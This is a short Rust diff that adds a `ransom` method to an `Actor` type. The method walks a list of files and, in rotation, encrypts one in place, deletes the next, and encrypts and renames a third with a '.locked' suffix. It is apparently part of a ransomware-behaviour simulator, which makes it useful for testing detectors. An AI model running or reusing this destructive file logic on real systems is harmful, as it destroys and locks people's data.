@@ -126,6 +126,20 @@ impl Actor {
         }
     }
 
+    /// One is encrypted, the next removed, the third encrypted and renamed.
+    pub fn ransom(&mut self, targets: &[PathBuf]) {
+        for (number, path) in targets.iter().enumerate() {
+            match number % 3 {
+                0 => self.encrypt(path),
+                1 => self.unlink(path),
+                _ => {
+                    self.encrypt(path);
+                    self.rename(path, &with_suffix(path, ".locked"));
+                }
+            }
+        }
+    }
+
     /// Overwrites from the start, keeping the size.
     pub fn encrypt(&mut self, path: &Path) {
         let mut file = fs::OpenOptions::new().read(true).write(true).open(path).unwrap();
